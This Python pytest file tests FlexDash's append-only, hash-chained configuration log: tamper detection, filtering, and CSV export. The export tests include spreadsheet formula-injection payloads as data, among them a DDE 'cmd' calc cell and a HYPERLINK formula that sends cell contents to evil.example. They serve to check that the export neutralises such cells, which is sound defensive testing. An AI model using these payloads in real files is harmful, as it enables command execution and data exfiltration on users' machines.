"""The Configuration Log: append-only, one line whoever writes, and every damage found and named."""

import csv
import io
import threading
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from sqlalchemy import Connection, text
from sqlalchemy.exc import DatabaseError
from sqlalchemy.orm import Session

from flexdash.database import transaction
from flexdash.extensions import db
from flexdash.models import ConfigChainHead, ConfigEvent, Role, Section
from flexdash.services import config_log, config_log_queries, config_log_verify, csv_export
from flexdash.services.actors import Actor
from flexdash.services.config_log_queries import Filters
from tests.factories import make_actor, make_seller, make_store, make_user, make_workspace
from tests.support.chains import append, append_from_processes, tampering

UTC_ZONE = ZoneInfo("UTC")


@pytest.fixture
def workspace(app):
    return make_workspace()


@pytest.fixture
def admin(workspace):
    return make_actor(make_user(workspace, Role.ADMIN, name="Ada"))


def rows(workspace_id: int) -> list[ConfigEvent]:
    db.session.rollback()
    query = db.select(ConfigEvent).where(ConfigEvent.workspace_id == workspace_id).order_by(ConfigEvent.sequence)
    return list(db.session.scalars(query))


# Writing --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("statement", ["UPDATE config_events SET sentence = 'nothing'", "DELETE FROM config_events"])
def test_the_database_refuses_to_change_history(workspace, statement) -> None:
    append(workspace.id, 2)
    with pytest.raises(DatabaseError, match="append-only"), transaction() as session:
        session.execute(text(statement))
    assert [row.sentence for row in rows(workspace.id)] == ["FlexDash made change 0", "FlexDash made change 1"]


def test_each_row_carries_the_hash_of_the_one_before_and_the_head_that_of_the_last(workspace) -> None:
    append(workspace.id, 3)
    found = rows(workspace.id)
    assert [row.sequence for row in found] == [1, 2, 3]
    assert [row.previous_hash for row in found] == ["", found[0].hash, found[1].hash]
    assert all(config_log.hash_of(row) == row.hash for row in found)
    head = db.session.get(ConfigChainHead, workspace.id)
    assert (head.sequence, head.hash) == (3, found[2].hash)


def test_a_row_that_is_rolled_back_leaves_no_gap(workspace) -> None:
    append(workspace.id, 1)

    def die_after_the_row() -> None:
        with transaction():
            config_log.record(Actor.system(workspace.id), Section.USERS, "never")
            raise RuntimeError("died")

    with pytest.raises(RuntimeError, match="died"):
        die_after_the_row()
    append(workspace.id, 1)
    assert [row.sequence for row in rows(workspace.id)] == [1, 2]
    assert config_log_verify.verify(workspace.id).is_intact


def test_workspaces_have_chains_of_their_own(workspace) -> None:
    other = make_workspace()
    append(workspace.id, 2)
    append(other.id, 1)
    assert config_log_verify.verify(workspace.id).n_rows == 2
    assert config_log_verify.verify(other.id).n_rows == 1


def test_what_people_type_is_kept_on_one_line_and_within_the_column(workspace) -> None:
    actor = Actor(workspace.id, None, "A" * 100, address="x" * 200)
    with transaction():
        config_log.record(actor, Section.USERS, "zero\0and\nline " + "x" * 600, reason=" a\r\n\tb\u202e ")
    (row,) = rows(workspace.id)
    assert row.sentence.startswith("zero and line x")
    assert len(row.sentence) == 500
    assert (row.reason, len(row.address)) == ("a b", 45)
    assert config_log_verify.verify(workspace.id).is_intact


def test_eight_threads_and_four_processes_write_one_line(app, workspace, environment) -> None:
    workspace_id = workspace.id
    db.session.remove()

    def write(name: str) -> None:
        with app.app_context():
            append(workspace_id, 10, name)
            db.session.remove()

    threads = [threading.Thread(target=write, args=(f"Thread {n}",)) for n in range(8)]
    for thread in threads:
        thread.start()
    append_from_processes(environment, workspace_id, n_writers=4, n_rows=10)
    for thread in threads:
        thread.join(60)
    found = rows(workspace_id)
    assert [row.sequence for row in found] == list(range(1, 121))
    assert len({row.previous_hash for row in found}) == 120
    verification = config_log_verify.verify(workspace_id)
    assert (verification.is_intact, verification.n_rows) == (True, 120)


# Verifying ------------------------------------------------------------------------------------------------------------

EDITS = {
    "sentence": "'Somebody else made change 4'",
    "actor_name": "'Nobody'",
    "occurred_at": "'2020-01-01 00:00:00.000000'",
    "section": "'No such section'",
    "reason": "'a better one'",
    "address": "''",
    "hash": "'" + "0" * 64 + "'",
    "previous_hash": "'" + "0" * 64 + "'",
    "new_value": """'{"n": 5}'""",
    "old_value": "'{}'",
}


@pytest.mark.parametrize("column", EDITS)
def test_an_edited_row_is_named(app, workspace, column) -> None:
    append(workspace.id, 9)
    workspace_id = workspace.id
    with tampering(app) as connection:
        connection.exec_driver_sql(f"UPDATE config_events SET {column} = {EDITS[column]} WHERE sequence = 5")
    verification = config_log_verify.verify(workspace_id)
    assert (verification.bad_sequence, verification.n_rows) == (5, 4)
    assert verification.fault == "Row 5 was edited: what it says does not match its hash."


def forge(connection: Connection, sequence: int, sentence: str) -> None:
    """Edit a row and make its own hash fit again, as a careful forger would."""
    with Session(bind=connection, join_transaction_mode="create_savepoint") as session:
        row = session.scalars(db.select(ConfigEvent).where(ConfigEvent.sequence == sequence)).one()
        session.expunge(row)
    row.sentence = sentence
    connection.execute(
        text("UPDATE config_events SET sentence = :sentence, hash = :hash WHERE sequence = :sequence"),
        {"sentence": sentence, "hash": config_log.hash_of(row), "sequence": sequence},
    )


def test_a_row_forged_with_a_fitting_hash_is_found_by_the_row_after_it(app, workspace) -> None:
    append(workspace.id, 9)
    workspace_id = workspace.id
    with tampering(app) as connection:
        forge(connection, 5, "forged")
    verification = config_log_verify.verify(workspace_id)
    assert verification.bad_sequence == 6
    assert "or the row before it was replaced" in verification.fault


def test_a_forged_last_row_is_found_by_the_kept_head(app, workspace) -> None:
    append(workspace.id, 3)
    workspace_id = workspace.id
    with tampering(app) as connection:
        forge(connection, 3, "forged")
    assert config_log_verify.verify(workspace_id).fault.startswith("Row 3 was replaced")


@pytest.mark.parametrize(
    ("statement", "bad_sequence", "words"),
    [
        ("DELETE FROM config_events WHERE sequence = 1", 1, "Row 1 is missing: deleted"),
        ("DELETE FROM config_events WHERE sequence = 5", 5, "Row 5 is missing: deleted"),
        ("DELETE FROM config_events WHERE sequence IN (5, 6)", 5, "Rows 5 to 6 are missing"),
        ("DELETE FROM config_events WHERE sequence = 9", 9, "Row 9 is missing: the end of the log was cut off"),
        ("DELETE FROM config_events WHERE sequence > 6", 7, "Rows 7 to 9 are missing: the end of the log was cut off"),
        ("DELETE FROM config_events", 1, "Rows 1 to 9 are missing: the end of the log was cut off"),
        ("DELETE FROM config_chain_heads", None, "head of the chain is gone"),
        ("UPDATE config_chain_heads SET sequence = 8", 9, "Row 9 was inserted"),
        ("UPDATE config_events SET sequence = 0 WHERE sequence = 4", 1, "A row with the number 0 stands"),
    ],
)
def test_missing_rows_are_named(app, workspace, statement, bad_sequence, words) -> None:
    append(workspace.id, 9)
    workspace_id = workspace.id
    with tampering(app) as connection:
        connection.exec_driver_sql(statement)
    verification = config_log_verify.verify(workspace_id)
    assert verification.bad_sequence == bad_sequence
    assert words in verification.fault


def test_an_inserted_row_is_named(app, workspace) -> None:
    append(workspace.id, 9)
    workspace_id = workspace.id
    columns = ", ".join(
        column.name for column in ConfigEvent.__table__.columns if column.name not in ("id", "sequence")
    )
    with tampering(app) as connection:
        connection.exec_driver_sql("UPDATE config_events SET sequence = -sequence WHERE sequence > 4")
        connection.exec_driver_sql("UPDATE config_events SET sequence = 1 - sequence WHERE sequence < 0")
        connection.exec_driver_sql(
            f"INSERT INTO config_events (sequence, {columns}) SELECT 5, {columns} FROM config_events WHERE sequence = 4"
        )
    assert config_log_verify.verify(workspace_id).bad_sequence == 5


def test_swapped_rows_are_named(app, workspace) -> None:
    append(workspace.id, 9)
    workspace_id = workspace.id
    with tampering(app) as connection:
        for old, new in ((3, 1003), (7, 3), (1003, 7)):
            connection.exec_driver_sql(f"UPDATE config_events SET sequence = {new} WHERE sequence = {old}")
    assert config_log_verify.verify(workspace_id).bad_sequence == 3


def test_a_row_that_cannot_even_be_read_is_named(app, workspace) -> None:
    append(workspace.id, 9)
    workspace_id = workspace.id
    if db.engine.dialect.name != "sqlite":
        pytest.skip("PostgreSQL stores no broken text, numbers or JSON in the first place")
    for column, value in {
        "sentence": "CAST(x'ff' AS TEXT)",
        "sequence": "'five'",
        "occurred_at": "'yesterday'",
        "new_value": "'{'",
        "actor_name": "x'00ff'",
    }.items():
        with tampering(app) as connection:
            kept = connection.exec_driver_sql(f"SELECT {column} FROM config_events WHERE sequence = 5").scalar()
            row_id = connection.exec_driver_sql("SELECT id FROM config_events WHERE sequence = 5").scalar()
            connection.exec_driver_sql(f"UPDATE config_events SET {column} = {value} WHERE sequence = 5")
        verification = config_log_verify.verify(workspace_id)
        assert not verification.is_intact, column
        assert 1 <= verification.bad_sequence <= 5
        with tampering(app) as connection:
            connection.execute(text(f"UPDATE config_events SET {column} = :v WHERE id = {row_id}"), {"v": kept})
    assert config_log_verify.verify(workspace_id).is_intact


def test_an_empty_log_is_intact_and_how_a_verification_ended_is_kept(app, workspace) -> None:
    workspace_id = workspace.id
    assert config_log_verify.latest(workspace_id) is None
    assert config_log_verify.verify_and_keep(workspace_id).is_intact
    append(workspace_id, 2)
    with tampering(app) as connection:
        connection.exec_driver_sql("UPDATE config_events SET reason = 'x' WHERE sequence = 2")
    now = datetime(2026, 11, 23, 14, 2, tzinfo=UTC)
    with time_machine.travel(now, tick=False):
        config_log_verify.verify_and_keep(workspace_id)
    kept = config_log_verify.latest(workspace_id)
    assert (kept.checked_at, kept.n_rows, kept.is_intact) == (now, 1, False)
    assert "Row 2 was edited" in kept.fault


def test_rows_appended_while_the_chain_is_read_are_no_fault(app, workspace, monkeypatch) -> None:
    workspace_id = workspace.id
    append(workspace_id, 5)
    monkeypatch.setattr(config_log_verify, "ROWS_AT_A_TIME", 2)
    original, appended = config_log_verify.Chain.add, []

    def add(chain, row) -> None:
        original(chain, row)
        if not appended:
            appended.append(thread := threading.Thread(target=write))
            thread.start()
            thread.join(30)

    def write() -> None:
        with app.app_context():
            append(workspace_id, 3)
            db.session.remove()

    monkeypatch.setattr(config_log_verify.Chain, "add", add)
    assert config_log_verify.verify(workspace_id).is_intact
    assert len(rows(workspace_id)) == 8


# Reading --------------------------------------------------------------------------------------------------------------


def sentences(actor: Actor, zone: ZoneInfo = UTC_ZONE, **filters) -> list[str]:
    query = config_log_queries.events(actor, Filters(**filters), zone).order_by(ConfigEvent.sequence)
    return [row.sentence for row in db.session.scalars(query)]


def record(actor: Actor, sentence: str, section: Section = Section.SETTINGS, **values) -> None:
    with transaction():
        config_log.record(actor, section, sentence, **values)


def test_the_days_of_the_filter_are_the_viewers_own(workspace, admin) -> None:
    for moment in ("2026-11-22T18:29:59", "2026-11-22T18:30:00", "2026-11-23T18:29:59", "2026-11-23T18:30:00"):
        with time_machine.travel(datetime.fromisoformat(f"{moment}+00:00"), tick=False):
            record(admin, moment)
    day = date(2026, 11, 23)
    found = sentences(admin, ZoneInfo("Asia/Kolkata"), first_day=day, last_day=day)
    assert found == ["2026-11-22T18:30:00", "2026-11-23T18:29:59"]
    assert sentences(admin, first_day=day) == ["2026-11-23T18:29:59", "2026-11-23T18:30:00"]
    assert len(sentences(admin, first_day=date.min, last_day=date.max)) == 4


def test_person_section_and_store_narrow_the_rows(workspace, admin) -> None:
    store = make_store(make_seller(workspace))
    record(admin, "a")
    record(Actor.system(workspace.id), "b", Section.CONNECTION, store=store)
    record(admin, "c", Section.USERS)
    assert sentences(admin, person=str(admin.user_id)) == ["a", "c"]
    assert sentences(admin, person=config_log_queries.FLEXDASH_ITSELF) == ["b"]
    assert sentences(admin, section=Section.USERS) == ["c"]
    assert sentences(admin, store_id=store.id) == ["b"]
    assert sentences(admin, store_id=store.id, section=Section.USERS) == []


def test_nobody_reads_another_workspaces_rows_nor_those_of_sellers_they_may_not_see(workspace, admin) -> None:
    mine, theirs = make_seller(workspace), make_seller(workspace)
    for seller in (mine, theirs):
        record(admin, seller.name, store=make_store(seller))
    record(admin, "a hub")
    record(make_actor(make_user(make_workspace())), "foreign")
    limited = make_actor(make_user(workspace, Role.SUPPORT, sellers=[mine]))
    assert sentences(admin) == [mine.name, theirs.name, "a hub"]
    assert sentences(limited) == [mine.name, "a hub"]


def test_changes_are_told_in_words_and_without_numbers_for_programs(workspace, admin) -> None:
    record(
        admin,
        "x",
        old={"hub_id": 7, "seller_flex_hub_id": "EXSB", "is_active": True, "name": "same"},
        new={"hub_id": 7, "seller_flex_hub_id": "EXSC", "is_active": False, "name": "same", "sellers": ["A", "B"]},
    )
    changes = config_log_queries.changes(rows(workspace.id)[0])
    assert [(change.label, change.old, change.new) for change in changes] == [
        ("Active", "on", "off"),
        ("Seller Flex Hub ID", "EXSB", "EXSC"),
        ("Sellers", "", "A, B"),
    ]


def test_times_and_states_in_changes_are_told_as_on_the_pages(workspace, admin) -> None:
    until = datetime(2027, 11, 23, 20, 48, 50, tzinfo=UTC)
    record(
        admin,
        "x",
        old={"status": "needs_reauthorization"},
        new={"status": "connected", "authorization_expires_at": until.isoformat()},
    )
    changes = config_log_queries.changes(rows(workspace.id)[0])
    assert [(change.label, change.old, change.new) for change in changes] == [
        ("Authorization expires at", "", "23 Nov 2027, 20:48 UTC"),
        ("Status", "needs re-authorization", "connected"),
    ]


def test_the_export_goes_through_all_portions_newest_first(workspace, admin, monkeypatch) -> None:
    monkeypatch.setattr(config_log_queries, "ROWS_AT_A_TIME", 3)
    store = make_store(make_seller(workspace), name="Pune Store")
    append(workspace.id, 6)
    record(
        admin, "last", store=store, reason="because", old={"is_order_sync_on": False}, new={"is_order_sync_on": True}
    )
    exported = list(config_log_queries.export_rows(admin, Filters(), UTC_ZONE))
    assert [row[0] for row in exported] == [7, 6, 5, 4, 3, 2, 1]
    assert exported[0][2:10] == (
        "Ada",
        "127.0.0.1",
        "Settings",
        "Pune Store",
        "last",
        "Order Sync: off",
        "Order Sync: on",
        "because",
    )
    assert len(exported[0]) == len(config_log_queries.EXPORT_HEADINGS)
    assert list(config_log_queries.export_rows(admin, Filters(first_day=date.min), UTC_ZONE)) == exported


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\nx",
        "=cmd|' /C calc'!A0",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        " \uff20SUM(A1)",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(cell) -> None:
    assert csv_export.neutralised(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "neutral"),
    [
        ("Pune;=1+1", "Pune;'=1+1"),
        ("a; @x;b", "a;' @x;b"),
        ('a;"=1', "a;'\"=1"),
        ("=1;-1", "'=1;'-1"),
        ("a;\uff1d1", "a;'\uff1d1"),
        ("a\n=1", "a\n'=1"),
        ("a\r\n +1\r@x", "a\r\n' +1\r'@x"),
        ("a\n\t=1", "a\n'\t=1"),
        ("a;\n=1", "a;\n'=1"),
        ('a\n"=1', "a\n'\"=1"),
        ("'=1", "''=1"),  # so that it comes back with one
        ("a;'-1", "a;''-1"),
    ],
)
def test_a_formula_behind_a_semicolon_or_a_line_end_is_neutralised_for_spreadsheets_that_split_there(
    cell, neutral
) -> None:
    assert csv_export.neutralised(cell) == neutral


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("split", [";", "\n", "\r\n", "\r", ";\n"])
def test_no_cell_of_an_export_begins_like_a_formula_however_it_is_split(delimiter, split) -> None:
    evil = f'Tee{split}=HYPERLINK("http://evil.example/?"&A1){split}x'
    file = "".join(csv_export.lines(["sku", "why", "name"], [["S1", "bad, as it is", evil], [evil, evil, evil]]))
    cells = [cell for row in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip(' "').startswith("=")]


@pytest.mark.parametrize(
    "cell", ["EXSB", "Code: PN1; Name: x", "a;b", "a=1", "a-b", "a\nb=1", "", "'1", "0012345678", "1E5"]
)
def test_harmless_cells_stay_as_they_are(cell) -> None:
    assert csv_export.neutralised(cell) == cell


def test_numbers_and_nothing_are_no_formulas() -> None:
    assert [csv_export.neutralised(value) for value in (-5, None, 3)] == ["-5", "", "3"]


def test_the_newest_row_about_a_value_is_found_by_its_name(workspace, admin) -> None:
    store, other = make_store(make_seller(workspace)), make_store(make_seller(workspace))
    record(admin, "a", store=store, old={"is_order_sync_on": False}, new={"is_order_sync_on": True})
    record(admin, "b", store=store, old={"is_inventory_sync_on": True}, new={"is_inventory_sync_on": False})
    record(admin, "c", store=other, new={"is_order_sync_on": True})
    record(admin, "d", Section.HUB_MAPPING, store=store, old={"hub_id": 4})
    newest = config_log_queries.newest
    assert newest(store, Section.SETTINGS).sentence == "b"
    assert newest(store, Section.SETTINGS, "is_order_sync_on").sentence == "a"
    assert newest(store, Section.SETTINGS, "is_automated_cancellation_on") is None
    assert newest(store, Section.HUB_MAPPING, "hub_id", 4).sentence == "d"
    assert newest(store, Section.HUB_MAPPING, "hub_id", 5) is None


def test_times_are_kept_to_the_microsecond(workspace, admin) -> None:
    moment = datetime(2026, 3, 29, 1, 30, 0, 123456, tzinfo=UTC)
    with time_machine.travel(moment, tick=False):
        record(admin, "x")
    assert rows(workspace.id)[0].occurred_at == moment
    assert config_log_verify.verify(workspace.id).is_intact
